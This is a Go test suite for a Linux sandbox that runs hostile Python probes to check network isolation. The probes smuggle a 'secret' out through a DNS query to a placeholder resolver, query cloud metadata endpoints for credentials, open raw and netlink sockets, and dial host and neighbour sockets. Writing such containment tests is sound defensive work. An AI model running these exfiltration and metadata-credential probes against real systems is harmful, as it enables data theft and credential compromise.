package process

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"tranca"
	"tranca/internal/hostiletest"
	"tranca/internal/require"
)

// TestHostileNetwork tries to reach anything beyond the sandbox's own loopback.
func TestHostileNetwork(t *testing.T) { runRows(t, networkRows()) }

func networkRows() []row {
	return []row{reachRow(), dnsRow(), metadataRow(), rawSocketRow(), netlinkRow(), proxyRow()}
}

// hostNetwork runs code in the host's network namespace.
func hostNetwork(_ *scene, pl *plan) { pl.Spaces &^= unix.CLONE_NEWNET }

// hostAddress is an address of the host beside loopback, or loopback.
func hostAddress() string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if ip, ok := a.(*net.IPNet); ok && !ip.IP.IsLoopback() && ip.IP.To4() != nil {
			return ip.IP.String()
		}
	}
	return "127.0.0.1"
}

// reachRow dials listeners of the host by every address that it has.
func reachRow() row {
	return row{
		id: "NET-01 NET-02 NET-03 NET-04 NET-07", what: "TCP, UDP, IPv6, ICMP to the host",
		scene: func(s *scene) {
			for name, network := range map[string]string{"tcp4": "0.0.0.0:0", "tcp6": "[::1]:0"} {
				l := &hostiletest.Listener{}
				s.vars[name] = l.Port(s, name, network)
				s.effect["loopback "+name] = l.Hit
			}
			other := &hostiletest.Listener{}
			s.vars["other"] = other.Port(s, "tcp4", "0.0.0.0:0")
			s.effect["the host's address"] = other.Hit
			for name, network := range map[string]string{"udp4": "127.0.0.1:0", "udp6": "[::1]:0"} {
				p := &hostiletest.Listener{}
				s.vars[name] = p.Packets(s, name, network)
				s.effect["loopback "+name] = p.Hit
			}
			s.vars["address"] = hostAddress()
		},
		program: `
def dial(family, address, port):
    s = socket.socket(family)
    s.settimeout(3)
    s.connect((address, port))
    time.sleep(0.2)
def send(family, address, port):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(b'x', (address, port))
    time.sleep(0.2)
attempt('loopback tcp4', dial, socket.AF_INET, '127.0.0.1', V['tcp4'])
attempt('loopback tcp6', dial, socket.AF_INET6, '::1', V['tcp6'])
attempt('loopback udp4', send, socket.AF_INET, '127.0.0.1', V['udp4'])
attempt('loopback udp6', send, socket.AF_INET6, '::1', V['udp6'])
attempt("the host's address", dial, socket.AF_INET, V['address'], V['other'])
def served():
    s = socket.create_server(('127.0.0.1', 0))
    dial(socket.AF_INET, '127.0.0.1', s.getsockname()[1])
twin('own loopback', served)
`,
		controls: []control{{what: "an own network namespace", weaken: hostNetwork}},
	}
}

// dnsRow smuggles the canary out as a name, by the resolver and directly.
func dnsRow() row {
	return row{
		id: "NET-05", what: "ask for a name that carries a secret",
		scene: func(s *scene) {
			direct := &hostiletest.Listener{}
			s.vars["port"] = direct.Packets(s, "udp4", "127.0.0.1:0")
			s.effect["directly"] = direct.Hit
		},
		program: `
query = b'\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x06secret\x07example\0\0\x01\0\x01'
def directly():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(query, ('127.0.0.1', V['port']))
    time.sleep(0.2)
attempt('directly', directly)
attempt('a resolver is named', lambda: expect('one', 'nameserver' in open('/etc/resolv.conf').read()))
def routed():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(('192.0.2.53', 53))
    s.send(query)
attempt('a route to one', routed)
twin('a name in the hosts file', lambda: socket.getaddrinfo('localhost', 80))
`,
		blind: map[string]string{
			"a resolver is named": "a host may have none", "a route to one": "a host may have no route out",
		},
		controls: []control{{what: "an own network namespace", weaken: hostNetwork}},
	}
}

// metadataRow asks for the credentials of a cloud. The control makes its own
// metadata service in a namespace of the control's own.
func metadataRow() row {
	return row{
		id: "NET-06", what: "ask the metadata services of clouds",
		program: `
ADDRESSES = ['169.254.169.254', '100.96.0.96', 'fd00:ec2::254']
if V['bare']:
    call('unshare', 0x10000000 | 0x40000000)
    netlink(16, 0, struct.pack('BBHiII', 0, 0, 0, 1, 1, 1))
    for a in ADDRESSES: add_address(a)
    time.sleep(0.5)
    servers = [socket.create_server((a, 80), family=socket.AF_INET6 if ':' in a else socket.AF_INET) for a in ADDRESSES]
def ask(address):
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET)
    s.settimeout(3)
    s.connect((address, 80))
for a in ADDRESSES:
    attempt(a, ask, a)
attempt('by name', socket.getaddrinfo, 'metadata.google.internal', 80)
attempt('a route', lambda: expect('one', len(open('/proc/net/route').readlines()) > 1))
twin('make a socket', lambda: socket.socket().close())
`,
		blind:    map[string]string{"by name": "the control has no resolver either", "a route": "reaching it is the proof"},
		controls: []control{{what: "any boundary"}},
	}
}

func rawSocketRow() row {
	return row{
		id: "NET-09 NET-11", what: "packet, raw, ping, crypto and VM sockets",
		program: `
def made(*args):
    socket.socket(*args).close()
attempt('packet', made, 17, socket.SOCK_RAW, 3)
attempt('raw', made, socket.AF_INET, socket.SOCK_RAW, 1)
attempt('raw IPv6', made, socket.AF_INET6, socket.SOCK_RAW, 58)
attempt('ping', made, socket.AF_INET, socket.SOCK_DGRAM, 1)
attempt('AF_ALG', made, 38, socket.SOCK_SEQPACKET)
attempt('AF_VSOCK', made, 40, socket.SOCK_STREAM)
attempt('netlink', made, 16, socket.SOCK_RAW, 0)
attempt('SCTP', made, socket.AF_INET, socket.SOCK_STREAM, 132)
attempt('MPTCP', made, socket.AF_INET, socket.SOCK_STREAM, 262)
attempt('the upper half', lambda: call('socket', 1 << 32 | 16, socket.SOCK_RAW, 0))
twin('TCP', made, socket.AF_INET, socket.SOCK_STREAM)
twin('UDP', made, socket.AF_INET6, socket.SOCK_DGRAM)
`,
		blind: map[string]string{
			"packet": onlyRoot, "raw": onlyRoot, "raw IPv6": onlyRoot, "ping": "net.ipv4.ping_group_range refuses it too; " + ownRule,
			"AF_ALG": "not in every kernel", "AF_VSOCK": "not in every kernel", "SCTP": "not in every kernel", "MPTCP": "not in every kernel",
		},
		controls: []control{
			{what: "the filter", weaken: unfiltered},
			{what: "any boundary", root: true, escapes: []string{"packet", "raw", "raw IPv6"}},
		},
	}
}

func netlinkRow() row {
	return row{
		id: "NET-12", what: "change addresses, routes and filters",
		program: `
if V['bare']:
    call('unshare', 0x10000000 | 0x40000000)
attempt('link up', netlink, 16, 0, struct.pack('BBHiII', 0, 0, 0, 1, 1, 1))
attempt('address', add_address, '10.9.8.7')
def by_ioctl():
    name = b'lo'.ljust(16, b'\0')
    s = socket.socket()
    fcntl.ioctl(s, 0x8914, name + struct.pack('H', 0x41).ljust(24, b'\0'))
attempt('flags by ioctl', by_ioctl)
before = open('/proc/net/dev').read().count(':')
attempt('a new interface', lambda: expect('one', open('/proc/net/dev').read().count(':') > before))
twin('look at interfaces', lambda: open('/proc/net/dev').read())
`,
		holds:    []control{{what: "the filter", weaken: unfiltered}},
		blind:    map[string]string{"a new interface": "nothing in this row makes one"},
		controls: []control{{what: "any boundary"}},
	}
}

// proxyRow unsets the proxy variables and dials: there is nothing that only
// variables keep in.
func proxyRow() row {
	return row{
		id: "NET-13", what: "unset proxy variables and dial",
		scene: func(s *scene) {
			l := &hostiletest.Listener{}
			s.vars["port"] = l.Port(s, "tcp4", "127.0.0.1:0")
			s.effect["dial"] = l.Hit
			s.policy.Env = map[string]string{"HTTP_PROXY": "http://127.0.0.1:1", "no_proxy": "*"}
		},
		program: `
def dial():
    for name in list(os.environ):
        if name.lower().endswith('_proxy'): del os.environ[name]
    s = socket.create_connection(('127.0.0.1', V['port']), 3)
    time.sleep(0.2)
attempt('dial', dial)
twin('unset a variable', lambda: os.environ.pop('HTTP_PROXY', None))
`,
		controls: []control{{what: "an own network namespace", weaken: hostNetwork}},
	}
}

// TestHostileNeighbour has one sandbox serve and another dial: NET-23.
func TestHostileNeighbour(t *testing.T) {
	b := newBackend(t)
	for _, shared := range []bool{false, true} {
		t.Run(fmt.Sprintf("shared=%v", shared), func(t *testing.T) {
			s := (&row{}).newScene(t, b, false)
			var weaken weakening
			if shared { // the control; Landlock also keeps abstract sockets apart
				weaken = all(hostNetwork, unlocked)
			}
			s.vars["port"] = freePort(t)
			server := s.open(weaken)
			defer closeBox(t, server)
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			defer cancel()
			out := &hostiletest.Live{}
			if _, err := server.Start(ctx, tranca.Command{Args: s.argv(neighbourServer), Stdout: out}); err != nil {
				t.Fatal(err)
			}
			hostiletest.Eventually(t, "the server serves", func() bool { return strings.Contains(out.String(), "serving") })
			client := s.open(weaken)
			defer closeBox(t, client)
			got := &hostiletest.Report{}
			s.playIn(client, neighbourClient, got)
			got.All(t, "beside it", shared)
		})
	}
}

const neighbourServer = `
a = socket.create_server(('0.0.0.0', V['port']))
b = socket.socket(socket.AF_UNIX)
b.bind('\0' + V['mark'])
b.listen()
print('serving', flush=True)
time.sleep(60)
`

const neighbourClient = `
def abstract():
    s = socket.socket(socket.AF_UNIX)
    s.connect('\0' + V['mark'])
attempt('tcp', lambda: socket.create_connection(('127.0.0.1', V['port']), 3))
attempt('abstract', abstract)
twin('own socket', lambda: socket.create_server(('127.0.0.1', 0)).close())
`

func freePort(t testing.TB) int {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

// scarceEnv names the kind of namespace that the re-executed test must do
// without, or "none".
const scarceEnv = "TRANCA_TEST_SCARCE"

// TestHostileScarce takes each kind of namespace away, in a user namespace
// whose own limits say so: NET-26. A sandbox that can't have its network
// namespace, or another, is refused; none is made with less.
func TestHostileScarce(t *testing.T) {
	if kind := os.Getenv(scarceEnv); kind != "" {
		scarce(t, kind)
		return
	}
	for _, kind := range []string{"none", "net", "user", "mnt", "pid", "ipc", "uts", "cgroup"} {
		t.Run(kind, func(t *testing.T) {
			cmd := exec.CommandContext(t.Context(), "/proc/self/exe", "-test.run=^TestHostileScarce$", "-test.v")
			cmd.Env = append(os.Environ(), scarceEnv+"="+kind, "TRANCA_REQUIRE_LOG=", "TRANCA_PROVIDES=")
			cmd.SysProcAttr = &syscall.SysProcAttr{
				Cloneflags:  syscall.CLONE_NEWUSER,
				UidMappings: []syscall.SysProcIDMap{{ContainerID: 65534, HostID: os.Geteuid(), Size: 1}},
				GidMappings: []syscall.SysProcIDMap{{ContainerID: 65534, HostID: os.Getegid(), Size: 1}},
				AmbientCaps: []uintptr{unix.CAP_SYS_RESOURCE},
			}
			out, err := cmd.CombinedOutput()
			require.Check(t, "user namespaces", !strings.Contains(fmt.Sprint(err), "fork/exec"), fmt.Sprint(err))
			if err != nil || !strings.Contains(string(out), "tried without "+kind) {
				t.Errorf("%v\n%s", err, out)
			}
		})
	}
}

func scarce(t *testing.T, kind string) {
	if kind != "none" {
		if err := os.WriteFile("/proc/sys/user/max_"+kind+"_namespaces", []byte("0"), 0); err != nil {
			t.Fatal(err)
		}
	}
	runtime := t.TempDir()
	if err := os.Chmod(runtime, 0o700); err != nil {
		t.Fatal(err)
	}
	b, err := New(Options{RuntimeFolder: runtime})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close(t.Context())
	sb, err := b.Create(t.Context(), tranca.Spec{ID: "i0", Policy: testPolicy(b)})
	if err == nil {
		closeBox(t, sb)
	}
	if (err == nil) != (kind == "none") {
		t.Fatalf("without %s namespaces a sandbox is made with the error: %v", kind, err)
	}
	t.Log("tried without " + kind)
}
